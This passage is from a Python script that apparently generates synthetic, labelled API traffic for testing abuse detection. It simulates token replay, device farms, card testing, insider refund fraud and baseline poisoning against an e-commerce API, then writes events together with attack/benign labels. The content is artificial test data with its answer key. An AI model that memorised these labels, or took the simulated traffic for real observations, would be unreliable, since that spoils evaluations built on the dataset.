        i = inst(K, tag); b = PART[pn]; a = bot(K, i, b.ua if rnd() < .4 else ch(['requests', 'curl', 'axios']), key=pn); a.net = dcip()() if rnd() < .6 else resi(.3); t = astart(n * gap * 1.2)
        for k in range(n):
            if tag[0] == 'e': a.ev(t, 'GET', '/v2/feeds/products', 200, 'cursor=%s&limit=500' % hexs(8))
            elif tag[0] == 'o': a.ev(t, 'GET', '/v2/feeds/orders', 200, 'since=%d' % (T0 - k * 86400))
            else: m, p = ch([('GET', '/v2/feeds/orders'), ('GET', '/v2/feeds/products'), ('PUT', '/v2/feeds/prices/' + sku()), ('GET', '/v2/feeds'), ('GET', '/v2/feeds/customers'), ('GET', '/internal/support/search'), ('PUT', '/v2/feeds/inventory/' + sku())]); a.ev(t, m, p, ch([200, 204]) if '/inventory/' in p else 404 if p.endswith(('feeds', 'customers')) else 403)
            t += logn(gap, .4)
def app_attacks():
    K = 'repackaged-app'
    i = inst(K, 'modded-users')           # a mod shared in forums: unlocks app-only prices, tries coupons by itself
    for j in range(S(10, 20)):
        a = fakeapp(K, i, 'failed', 'mod%d' % j, 'android', user=acct() if rnd() < .5 else ch(SIGNED)['uid'] and acct()); h = fixed(CC); m = mobile(CC)
        t = astart(1200); a.net = (h if rnd() < .6 else m)(); t = visit(a, t, dict(mail=email(), orders=[oid(T0)]), ri(1, 4))
        for _ in range(ri(2, 9)): a.ev(t, 'POST', '/v2/cart/coupons', 422 if rnd() < .9 else 200); t += R.uniform(.8, 2)
    i = inst(K, 'hooked-emulators'); nb = ri(3, 6); n = S(150, 300); t = astart(n * 12); bs = [fakeapp(K, i, 'failed', 'emu%d' % j, 'android') for j in range(nb)]; ip = [dcip()() for _ in range(2)]
    for b in bs: b.net = ch(ip)
    for k in range(n): ch(bs).ev(t, 'GET', '/v2/products/' + sku() + ch(['', '/stock']), 200); t += exp(.1)
    K = 'token-replay'
    for tag, n, gap, spread in [('fast-many-addresses', S(130, 260), 1.5, 40), ('slow-expired', S(70, 130), 90, 4), ('one-token-many-devices', S(70, 140), 4, 15)]:
        i = inst(K, tag); a = fakeapp(K, i, 'genuine'); t = astart(n * gap * 1.2); ips = [resi(.7) for _ in range(spread)]; bad = Att('missing'); tok, got = hexs(24), t; hold = 300
        class Rep:
            mode = 'genuine'
            def get(s, u, bg=False):
                return {'attestation.status': 'genuine' if u < got + 300 else 'expired', 'attestation.issuer': 'app', 'attestation.token': tok}
        a.att = Rep()
        for k in range(n):
            if t > got + (300 if gap < 5 else 1500) and rnd() < .6: tok, got = hexs(24), t - R.uniform(5, 60)
            a.net = ch(ips)
            if tag[0] == 'o' or rnd() < .1: a.dev = hexs(16)
            r = rnd()
            if tag[0] == 'f': a.ev(t, 'POST', '/v2/auth/login', 401 if rnd() < .992 else 200, sub=email())
            elif tag[0] == 's': a.ev(t, 'GET', '/v2/products/' + SKUS[(k * 11) % len(SKUS)], 200 if r < .9 else 401)
            else: gc(a, t, 404 if rnd() < .98 else 200)
            t += exp(1 / gap)
    K = 'device-farm'
    i = inst(K, 'loyalty'); m = [mobile(CC)() for _ in range(2)] + [fixed(CC)()]; nd = ri(10, 18)       # real phones on a rack, scripted taps
    farm = [fakeapp(K, i, 'genuine', 'phone%d' % j, 'android', user=acct()) for j in range(nd)]; pm = ch(AND)
    for a in farm: a.model = pm; setver(a, '5.12.1'); a.ja4 = None; a.net = ch(m)
    for rep in range(2 if W['days'] < 3 else 3):
        t = astart(5400, day=min(W['days'] - 1, rep + (1 if W['days'] > 3 else 0)))
        for a in farm:
            a.sess = hexs(20); u = a.scr(t, [('POST', '/v2/auth/refresh', 200), ('GET', '/v2/config', 200), ('GET', '/v2/home', 200), ('GET', '/v2/cart', 200), ('GET', '/v2/me', 200), ('GET', '/v2/notifications/unread', 200)], 0) + R.uniform(3, 5)
            u = a.scr(u, [('GET', '/v2/loyalty', 200)], 0) + R.uniform(2, 4); u = a.scr(u, [('POST', '/v2/loyalty/daily-checkin', 200 if rnd() < .9 else 409)], 0) + 2; t += R.uniform(20, 75)
    i = inst(K, 'signup-vouchers'); m = [mobile(CC)() for _ in range(3)]; t = astart(4 * 3600); pl = ch(['ios', 'android'])
    for j in range(S(14, 26)):            # each reinstall is a new installation
        a = fakeapp(K, i, 'genuine', 'phone%d' % (j % 8), pl); a.ja4 = None; a.net = ch(m); a.user = None
        u = a.scr(t, [('GET', '/v2/config', 200), ('GET', '/v2/home', 200), ('POST', '/v2/devices', 201)], 5); a.ev(u, 'POST', '/v2/auth/register', 201, sub=email()); a.user = acct()
        u = a.scr(u + 1, [('GET', '/v2/me', 200), ('POST', '/v2/loyalty/welcome-voucher', 201)], 8); u = product(a, u); u = a.scr(u, [('POST', '/v2/loyalty/referral', 200)], 5); t += logn(420, .5)
    if FLASH_T or rnd() < .5:
        i = inst(K, 'scalping-phones'); s = SALE_SKU if FLASH_T else DROP_SKU; t = (FLASH_T or astart(3600)) - 240; m = [mobile(CC)() for _ in range(4)]
        for j in range(ri(6, 12)):
            a = fakeapp(K, i, 'genuine', 'phone%d' % j, 'android', user=acct()); a.ja4 = None; a.net = ch(m); u = t + rnd() * 90
            u = a.scr(u, [('POST', '/v2/auth/refresh', 200), ('GET', '/v2/config', 200), ('GET', '/v2/home', 200), ('GET', '/v2/cart', 200), ('GET', '/v2/me', 200)], 3)
            for _ in range(ri(8, 16)): u = a.scr(u, [('GET', '/v2/products/' + s, 200), ('GET', '/v2/products/%s/stock' % s, 200)], 0) + R.uniform(8, 20)
            u = add_cart(a, u); u = checkout(a, u)
def cards():
    K = 'card-testing'
    for tag, n, gap in [('fast-guest', S(90, 180), 4), ('residential-slow', S(50, 90), 170)]:
        i = inst(K, tag); t = astart(n * gap * 1.3); a = bot(K, i, ch(['axios', 'requests']), key='web-spa') if gap < 9 else fakeweb(K, i); a.net = dcip()()
        for k in range(n):
            if gap > 9: a.net = resi(.7); a.ua = ua_web(); a.sess = hexs(20); a.seen = set(); a.scr(t - 20, [('GET', '/v2/config', 200), ('GET', '/v2/products/' + sku(), 200)], 0)
            if gap > 9 or k % 6 == 0: c = hexs(12); a.ev(t - 2, 'POST', '/v2/cart/items', 201); a.ev(t - 1, 'POST', '/v2/checkout', 201)
            a.ev(t, 'POST', '/v2/checkout/%s/payment' % c, 402 if rnd() < .9 else 200); t += logn(gap, .5)
def insiders(agents):
    K = 'insider'; pick = R.sample(agents, 3)
    for tag, a0, n, gap in [('bulk-evening', pick[0], S(110, 200), 7), ('slow-within-shift', pick[1], S(40, 70), 420), ('fake-refunds', pick[2], S(30, 55), 240)]:
        i = inst(K, tag); a = web_actor(a0.caller, K, a0.ua, a0.user, i); a.pre = False; a.key = a0.key; a.net = a0.home() if tag[0] == 'b' and rnd() < .5 else ch(COMP); a.sess = hexs(20)
        d = ri(0 if rnd() < .2 else 1, W['days'] - 1); t = T0 + d * DAY + ((19 if tag[0] == 'b' else 9) - TZ) * 3600 + rnd() * 3600; t = login(a, t, a0.mail, 0)
        for k in range(n):
            if tag[0] == 'f': o = oid(t - R.uniform(5, 40) * DAY); t = a.scr(t, [('GET', '/internal/support/orders/' + o, 200), ('POST', '/internal/support/orders/%s/refund' % o, 201 if rnd() < .9 else 403)], gap)
            else: t = a.scr(t, [('GET', '/internal/support/customers/' + (ch(SIGNED)['uid'] if rnd() < .5 else 'c%d' % ri(1000000, 9999999)), 200)] + ([('GET', '/internal/support/customers/c%d/orders' % ri(1000000, 9999999), 200)] if rnd() < .2 else []), gap)
def poison():
    K = 'baseline-poisoning'
    for tag, att in [('web-account', None), ('genuine-phone', 'genuine')]:
        i = inst(K, tag); a = fakeweb(K, i, user=acct()) if not att else fakeapp(K, i, att, user=acct()); h = fixed(CC); a.ja4 = None
        nv = W['days'] * 4; k = ri(0, 2000); st = dict(mail=email(), orders=[oid(T0)], mix=dict(product=60))
        for v in range(nv):
            t = T0 + (v + rnd() * .7 + .2) * DAY / 4; a.net = h(); t = visit(a, t, st, ri(1, 3))
            for _ in range(int(3 * (1.75 if W['days'] < 3 else 1.36 if W['days'] == 3 else 1.25) ** v * W['scale'])): k += 1; a.ev(t, 'GET', '/v2/products/' + SKUS[k % len(SKUS)], 200); t += logn(9, .5)

# ---------------------------------------------------------------- run
agents = staff_world(); store_world(); partners(); bots()
for _ in range(int(len(U) * W['app_share'] * .15)):        # background refresh of some installs
    u = ch(U); a = u['a']
    if a.plat == 'web': continue
    t = T0 + rnd() * 6 * 3600; a.bg = True; per = ch([4, 6, 8, 12]) * 3600
    if u.get('upd'): continue
    while t < T1:
        a.net = u['st']['place'](t); a.sess = None; a.ev(t, 'GET', '/v2/config', 304)
        if a.user: a.ev(t + .3, 'GET', '/v2/notifications/unread', 200)
        t += per * R.uniform(.93, 1.15)
    a.bg = False
ATT0 = len(EV)
stuffing(); spraying(); ato(); bola(); bfla(); enum(); signups(); scalping(); scraping(); scanners(); leaked(); app_attacks(); cards(); insiders(agents); poison()
byk = {}          # not every variant in every world
for e in EV:
    if e['_l'][1]: byk.setdefault(e['_l'][0], set()).add(e['_l'][1])
drop = {ch(sorted(v)) for k, v in sorted(byk.items()) if len(v) > 2 and k != 'account-takeover' and rnd() < .75}
size = {}
for e in EV: size[e['_l'][1]] = size.get(e['_l'][1], 0) + 1
natt = sum(v for k, v in size.items() if k and k not in drop); multi = [k for k, v in byk.items() if len(v - drop) > 1 and k != 'account-takeover']
R.shuffle(multi)
while natt > .066 * W['target'] and multi:
    k = multi.pop(); d = ch(sorted(byk[k] - drop)); drop.add(d); natt -= size[d]
EV[:] = [e for e in EV if e['_l'][1] not in drop]
budget = W['target'] - len(EV); wts = [u['st']['w'] for u in U]
# attacks have touched the state of some victims' actors (session, address): harmless, each visit sets its own
plan = []
if FLASH_T:
    for u in R.sample(U, int(len(U) * R.uniform(.1, .18))): plan.append((FLASH_T + (R.gauss(0, 200) if rnd() < .6 else exp(1 / 1500)), u, True))
per = 21.5 if W['preflight'] else 20.5
nv = int((budget - len(plan) * 28) / per)
for u in R.choices(U, wts, k=nv): plan.append((when(), u, False))
plan.sort(key=lambda x: x[0]); b0 = len(EV)
for t, u, f in plan: human(u, t, f)

EV.sort(key=lambda e: e['time'])
EV = [e for e in EV if T0 * 1000 <= e['time'] < T1 * 1000]
# an owner is a victim from the first moment that somebody else is in the account
callers = {u['uid']: u['caller'] for u in U if u['uid']}; vt = {}
for e in EV:
    if e['_l'][0] in ('account-takeover', 'credential-stuffing') and e.get('user.id') in callers: vt.setdefault(callers[e['user.id']], e['time'])
os.makedirs(OUT, exist_ok=True); cnt = {}; insts = set()
with open(OUT + '/events.ndjson', 'w') as fe, open(OUT + '/labels.ndjson', 'w') as fl:
    for n, e in enumerate(EV):
        kind, ins, caller, plat = e.pop('_l'); i = 'r%d-%s' % (SEED, hashlib.blake2b(b'%d.%d' % (SEED, n), digest_size=7).hexdigest())
        fe.write(json.dumps({'event_id': i, **e}, separators=(',', ':')) + '\n')
        l = {'event_id': i, 'label': 'attack' if ins else 'benign', 'kind': kind, 'instance': ins, 'caller': caller, 'platform': plat}
        if not ins and caller in vt and e['time'] >= vt[caller]: l['victim'] = True
        fl.write(json.dumps(l, separators=(',', ':')) + '\n'); k = (l['label'], kind); c = cnt.setdefault(k, [0, set()]); c[0] += 1; c[1].add(ins or caller)
json.dump({k: (v if not isinstance(v, float) else round(v, 3)) for k, v in W.items()} | {'start': START.isoformat(), 'flash_t': FLASH_T, 'release_t': RELEASE_T, 'outage': OUTAGE}, open(OUT + '/world.json', 'w'))
na = sum(c[0] for k, c in cnt.items() if k[0] == 'attack')
print(W, 'visits', len(plan), 'per', round((len(EV) - b0) / max(1, len(plan)), 1)); print(len(EV), 'events; attack %d = %.2f%%' % (na, 100 * na / len(EV)))
for k in sorted(cnt): print('%-7s %-24s %6d  %d' % (*k, cnt[k][0], len(cnt[k][1])))
